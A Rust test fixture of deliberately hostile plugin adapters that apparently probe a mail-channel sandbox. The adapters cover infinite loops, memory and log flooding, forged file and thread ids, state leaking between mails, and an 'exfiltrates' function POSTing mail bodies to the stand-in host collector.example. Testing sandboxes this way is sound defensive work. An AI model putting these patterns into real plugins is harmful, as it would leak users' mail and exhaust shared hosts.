//! The adapters: one function for each of `list.rs`.
use std::hint::black_box;
use std::sync::Mutex;

use tributary_guests::config::Config;
use tributary_guests::{one, read};
use tributary_sdk::prelude::*;

type Said = Result<Reading, Rejection>;

/// Which one this component is.
pub struct Guest(fn(&Envelope) -> Said);

tributary_sdk::export!(Guest: channel);

macro_rules! by_name {
    (adapters { $($name:ident $what:literal;)* } $($others:tt)*) => {
        fn by_name(name: &str) -> Option<fn(&Envelope) -> Said> {
            match name {
                $(stringify!($name) => Some($name),)*
                // Refused for what is in its plugin.toml, before it could do anything.
                "asks_for_more" => Some(traps),
                _ => None,
            }
        }
    };
}
tributary_guests::each_guest!(by_name);

impl Plugin for Guest {
    type Config = Config;

    fn prepare(config: Config) -> Result<Self, PrepareError> {
        by_name(&config.guest).map(Self).ok_or_else(|| PrepareError::value("guest", "expected an adapter of list.rs"))
    }
}

impl Channel for Guest {
    fn receive(&self, arrival: Arrival) -> Said {
        match arrival {
            Arrival::Mail(mail) => (self.0)(&mail),
            _ => Err(Rejection::Ignored("mails only".into())),
        }
    }

    fn send(&self, _: Outgoing) -> Result<Delivery, SendError> {
        Ok(Delivery::accepted(None))
    }
}

fn traps(_: &Envelope) -> Said {
    panic!("as it was written to")
}

fn spins(_: &Envelope) -> Said {
    let mut turns = 0_u64;
    loop {
        turns = black_box(turns.wrapping_add(1));
    }
}

fn allocates(_: &Envelope) -> Said {
    let mut kept = Vec::new();
    loop {
        kept.push(black_box(vec![1_u8; 64 << 10]));
    }
}

fn recurses(_: &Envelope) -> Said {
    fn deeper(depth: u64) -> u64 {
        let here = black_box([depth; 16]);
        if black_box(true) { deeper(depth + 1) + here[3] } else { 0 }
    }
    Err(Rejection::Malformed(format!("came back from {}", deeper(0))))
}

fn floods_log(_: &Envelope) -> Said {
    let line = "x".repeat(8 << 10);
    loop {
        host::log::error(&line);
    }
}

fn floods_host(_: &Envelope) -> Said {
    loop {
        drop(black_box(host::state::set("", b"x", None)));
    }
}

fn waits_for_mail(mail: &Envelope) -> Said {
    // Whatever it is told in the end, it tries again.
    loop {
        drop(black_box(host::mail::submit("", &["nobody@mail.example".to_owned()], &mail.data)));
    }
}

fn waits_for_http(_: &Envelope) -> Said {
    let request = || Request {
        method: "GET".into(),
        url: "https://api.example/".into(),
        headers: Vec::new(),
        body: Vec::new(),
    };
    loop {
        drop(black_box(host::http::send(&request())));
    }
}

/// It was granted `api.example` at most.
fn exfiltrates(mail: &Envelope) -> Said {
    let request = Request {
        method: "POST".into(),
        url: "https://collector.example/".into(),
        headers: Vec::new(),
        body: mail.data.clone(),
    };
    match host::http::send(&request) {
        Ok(_) => one(read(mail).message()),
        Err(error) => Err(Rejection::Malformed(format!("did not get out: {error:?}"))),
    }
}

/// The id of the file is the mail's text: whoever has seen one knows it.
fn forges_file(mail: &Envelope) -> Said {
    let blob = read(mail).text;
    if let Ok(data) = host::blobs::get(&blob) {
        return Err(Rejection::Malformed(format!("got {} bytes of somebody else's", data.len())));
    }
    let mut message = read(mail).message();
    message.content.attachments.push(Attachment {
        blob,
        name: "mine.txt".into(),
        media_type: "text/plain".into(),
        size: 1,
        content_id: None,
    });
    one(message)
}

/// The tag of the conversation is the mail's text.
fn forges_conversation(mail: &Envelope) -> Said {
    let tag = read(mail).text;
    let mut message = read(mail).message();
    message.thread.reply_token = Some(tag.clone());
    message.thread.thread_key = Some(tag.clone());
    message.thread.order_id = Some(tag.clone());
    message.thread.tag = Some(tag);
    one(message)
}

fn breaks_for_one(mail: &Envelope) -> Said {
    let read = read(mail);
    assert!(!read.subject.contains("poison"), "this one");
    one(read.message())
}

fn breaks_for_some(mail: &Envelope) -> Said {
    let read = read(mail);
    // FNV-1a (64 bit): stable by what is written.
    let hash = read
        .text
        .bytes()
        .fold(0xcbf2_9ce4_8422_2325_u64, |hash, byte| (hash ^ u64::from(byte)).wrapping_mul(0x0100_0000_01b3));
    assert!(hash % 100 != 7, "one of the hundred");
    one(read.message())
}

fn leaks(mail: &Envelope) -> Said {
    static BEFORE: Mutex<String> = Mutex::new(String::new());
    let read = read(mail);
    assert!(!read.subject.contains("poison"), "so that what it kept is in an instance that fell over");
    let mut before = BEFORE.lock().unwrap_or_else(|poisoned| poisoned.into_inner());
    let told = std::mem::replace(&mut *before, read.text.clone());
    let mut message = read.message();
    message.content.text = format!("the one before me wrote: {told}");
    one(message)
}
